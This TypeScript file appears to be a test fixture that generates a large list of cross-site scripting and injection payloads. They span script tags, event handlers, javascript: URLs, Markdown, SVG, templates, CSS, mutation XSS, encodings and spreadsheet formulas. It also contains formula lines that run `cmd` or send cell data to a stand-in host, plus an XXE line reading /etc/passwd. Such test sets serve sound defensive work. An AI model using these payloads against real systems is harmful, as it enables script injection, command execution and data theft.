/**
 * What somebody may write into a field so that it runs, leads away or breaks out where it is shown. Each calls
 * `ran` with its number, or `alert`: a page that shows it and calls neither has treated it as text.
 */

type Family = (call: (quote?: string) => string) => readonly string[];

const SCRIPTS: Family = (run) => [
  `<script>${run()}</script>`,
  `<SCRIPT>${run()}</SCRIPT>`,
  `<ScRiPt>${run()}</sCrIpT>`,
  `<script >${run()}</script >`,
  `<script\n>${run()}</script\n>`,
  `<script/x>${run()}</script>`,
  `<script type=module>${run()}</script>`,
  `<script src="data:text/javascript,${run()}"></script>`,
  `<script src=data:text/javascript,${run()}>`,
  `<scr<script>ipt>${run()}</scr</script>ipt>`,
  `<<script>${run()}//<</script>`,
  `</script><script>${run()}</script>`,
  `</title><script>${run()}</script>`,
  `</textarea><script>${run()}</script>`,
  `</style><script>${run()}</script>`,
  `</option></select><script>${run()}</script>`,
  `--><script>${run()}</script><!--`,
  `]]><script>${run()}</script><![CDATA[`,
  `"><script>${run()}</script>`,
  `'><script>${run()}</script>`,
  `<!--><script>${run()}</script>-->`,
  `<script>//\n${run()}\n</script>`,
  `"};${run()};//`,
  `';${run()};//`,
  `\\";${run()};//`,
  `</script><svg><script>${run()}</script>`,
];

const TAGS = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['iframe src=about:blank', 'onload'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['div style=width:100%;height:100%', 'onpointerover'],
  ['a href=#', 'onmouseover'],
  ['p tabindex=0 autofocus', 'onfocus'],
  ['form', 'onsubmit'],
  ['div', 'onanimationstart'],
  ['x contenteditable', 'oncut'],
  ['dialog open', 'onmouseover'],
] as const;

const HANDLERS: Family = (run) =>
  TAGS.flatMap(([tag, event]) => [
    `<${tag} ${event}=${run()}>`,
    `"><${tag} ${event}="${run()}">`,
    `'><${tag} ${event}='${run()}'>`,
    `<${tag.replaceAll(' ', '/')}/${event}=${run()}//`,
    `<${tag}\n${event.toUpperCase()}\n=\n"${run()}"\n>`,
    `" ${event}="${run()}" x="`,
  ]);

const ADDRESSES: Family = (run) => [
  `javascript:${run()}`,
  `JaVaScRiPt:${run()}`,
  ` javascript:${run()}`,
  `java\tscript:${run()}`,
  `java\nscript:${run()}`,
  `\u0001javascript:${run()}`,
  `javascript://exemple.fr/%0A${run()}`,
  `javascript&colon;${run()}`,
  `&#106;avascript:${run()}`,
  `vbscript:${run()}`,
  `data:text/html,<script>${run()}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#${run()}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run()}'/>`,
  `blob:null/${run()}`,
  `//ailleurs.example/${run()}`,
  `https://exemple.fr/"onmouseover="${run()}`,
  `https://exemple.fr/'><script>${run()}</script>`,
  `<a href="javascript:${run()}">ici</a>`,
  `<a href=" &#14; javascript:${run()}">ici</a>`,
  `<form action="javascript:${run()}"><button>ici</button></form>`,
  `<button formaction="javascript:${run()}">ici</button>`,
  `<iframe src="javascript:${run()}"></iframe>`,
  `<iframe srcdoc="<script>${run()}</script>"></iframe>`,
  `<embed src="javascript:${run()}">`,
  `<object data="javascript:${run()}"></object>`,
  `<base href="javascript:${run()}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run()}">`,
  `<link rel=stylesheet href="javascript:${run()}">`,
  `<isindex action="javascript:${run()}" type=image>`,
];

const MARKDOWN: Family = (run) => [
  `[ici](javascript:${run()})`,
  `[ici](JAVASCRIPT:${run()} "titre")`,
  `[ici](<javascript:${run()}>)`,
  `[ici](java&#9;script:${run()})`,
  `[ici](data:text/html,<script>${run()}</script>)`,
  `![ici](javascript:${run()})`,
  `![ici](x" onerror="${run()})`,
  `[![ici](x)](javascript:${run()})`,
  `<javascript:${run()}>`,
  `[ici][1]\n\n[1]: javascript:${run()}`,
  `**<img src=x onerror=${run()}>**`,
  `\`<img src=x onerror=${run()}>\``,
  `- <svg onload=${run()}>\n- deux`,
  `> <script>${run()}</script>`,
  `# <img src=x onerror=${run()}>`,
  `| a | b |\n|---|---|\n| <svg onload=${run()}> | c |`,
];

const SVG: Family = (run) => [
  `<svg><script>${run()}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${run()}"></script></svg>`,
  `<svg><script>&#97;lert&#40;1&#41;//${run()}</script></svg>`,
  `<svg><animate onbegin=${run()} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run()} attributeName=x to=1></svg>`,
  `<svg><a xlink:href="javascript:${run()}"><text y=20>ici</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run()}"/><text y=20>ici</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${run()}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run()}'/>#x"/></svg>`,
  `<svg><image href=x onerror=${run()}></svg>`,
  `<svg><style>@import 'javascript:${run()}';</style></svg>`,
  `</text></svg><svg onload="${run()}">`,
  `</tspan></text><script>${run()}</script>`,
  `" fill="url(javascript:${run()})`,
  `<?xml-stylesheet href="javascript:${run()}"?>`,
  `<!DOCTYPE x [<!ENTITY e "${run()}">]>&e;`,
  `<!ENTITY % e SYSTEM "file:///etc/passwd"> %e; ${run()}`,
];

const TEMPLATES: Family = (run) => [
  `{{constructor.constructor('${run("\\'")}')()}}`,
  `{{${run()}}}`,
  `{{count}} ${run()}`,
  `{{name}} {{- name}} ${run()}`,
  `$t(exports.title) ${run()}`,
  `$t(shell.close, {"count": 1}) ${run()}`,
  `\${${run()}}`,
  `#{${run()}}`,
  `<%= ${run()} %>`,
  `[[${run()}]]`,
  `{%raw%}${run()}{%endraw%}`,
  `*{${run()}}`,
  `$& $1 $\` ${run()}`,
  `%s %d %o ${run()}`,
  `__proto__ ${run()}`,
  `constructor`,
  `__proto__`,
  `toString`,
  `hasOwnProperty`,
];

const STYLES: Family = (run) => [
  `</style><img src=x onerror=${run()}>`,
  `;background:url(javascript:${run()})`,
  `red;}*{background:url("data:text/html,${run()}")}`,
  `<style>@import url(javascript:${run()});</style>`,
  `<style>*{background:url(javascript:${run()})}</style>`,
  `<div style="background:url(javascript:${run()})">`,
  `<div style="width:expression(${run()})">`,
  `<div style="behavior:url(#${run()})">`,
  `#FFFFFF" onload="${run()}`,
  `#FFF;}</style><script>${run()}</script>`,
];

const REPARSED: Family = (run) => [
  `<noscript><p title="</noscript><img src=x onerror=${run()}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run()}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run()}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run()}>">`,
  `<listing>&lt;img src=x onerror=${run()}&gt;</listing>`,
  `<xmp><p title="</xmp><svg/onload=${run()}>">`,
  `<template><script>${run()}</script></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${run()}>">`,
  `<title><a href="</title><img src=x onerror=${run()}>">`,
  `<iframe><img title="</iframe><img src=x onerror=${run()}>">`,
  `<math href="javascript:${run()}">ici</math>`,
  `<table><td background="javascript:${run()}">`,
];

const ENCODED: Family = (run) => [
  `&lt;script&gt;${run()}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run()}&amp;gt;`,
  `&#60;img src=x onerror=${run()}&#62;`,
  `&#x3C;img src=x onerror=${run()}&#x3E;`,
  `\\u003cimg src=x onerror=${run()}\\u003e`,
  `\\x3cimg src=x onerror=${run()}\\x3e`,
  `%3Cimg%20src=x%20onerror=${run()}%3E`,
  `%253Cscript%253E${run()}%253C/script%253E`,
  `＜script＞${run()}＜/script＞`,
  `+ADw-script+AD4-${run()}+ADw-/script+AD4-`,
  `<img\u00a0src=x onerror=${run()}>`,
  `<img\u000csrc=x onerror=${run()}>`,
  `<\u0000script>${run()}</script>`,
  `ſcript <ſcript>${run()}</ſcript>`,
  `<img src=x:x onerror\u003d${run()}>`,
];

const DIRECTIONS: Family = (run) => [
  `\u202e>tpircs/<${run()}>tpircs<`,
  `\u202eacteur\u202c <img src=x onerror=${run()}>`,
  `\u2066<svg onload=${run()}>\u2069`,
  `\u2067<script>${run()}</script>`,
  `\u2028</script><script>${run()}</script>\u2029`,
  `\ufeff<img src=x onerror=${run()}>`,
  `\u200b<script>${run()}</script>\u200d`,
  `مرحبا <img src=x onerror=${run()}>`,
  `Z${'\u0351'.repeat(40)} ${run()}`,
  `𝕬 \ud83d <img src=x onerror=${run()}>`,
  `${'<b>'.repeat(30)}<img src=x onerror=${run()}>`,
];

const FORMULAS: Family = (run) => [
  `=cmd|'/c calc'!A1 ${run()}`,
  `+cmd|'/c calc'!A1 ${run()}`,
  `-cmd|'/c calc'!A1 ${run()}`,
  `@SUM(1+1)*cmd|'/c calc'!A1 ${run()}`,
  `=HYPERLINK("javascript:${run()}";"ici")`,
  `=HYPERLINK("https://ailleurs.example/?"&A1,"ici") ${run()}`,
  `=IMPORTXML(CONCAT("https://ailleurs.example/",A1),"//a") ${run()}`,
  `=WEBSERVICE("https://ailleurs.example/"&A1) ${run()}`,
  `=IMAGE("https://ailleurs.example/${run()}")`,
  `=1+1 ${run()}`,
  `+1+1 ${run()}`,
  `-1+1 ${run()}`,
  `\t=1+1 ${run()}`,
  `\r=1+1 ${run()}`,
  `'=1+1 ${run()}`,
  `"=1+1" ${run()}`,
  `;=1+1 ${run()}`,
  `,=1+1 ${run()}`,
  `x\n=1+1 ${run()}`,
  `x";=1+1;" ${run()}`,
  `＝1+1 ${run()}`,
  `=DDE("cmd";"/c calc";"${run()}")`,
];

const FAMILIES = [
  SCRIPTS,
  HANDLERS,
  ADDRESSES,
  MARKDOWN,
  SVG,
  TEMPLATES,
  STYLES,
  REPARSED,
  ENCODED,
  DIRECTIONS,
  FORMULAS,
];

/** The payloads, each another text; every second one calls `alert` as attackers do. */
export const PAYLOADS: readonly string[] = (() => {
  let number = 0;
  const call = () => {
    number++;
    return number % 2 === 0 ? `ran(${number})` : `alert(${number})`;
  };
  return [...new Set(FAMILIES.flatMap((family) => family(call)))];
})();
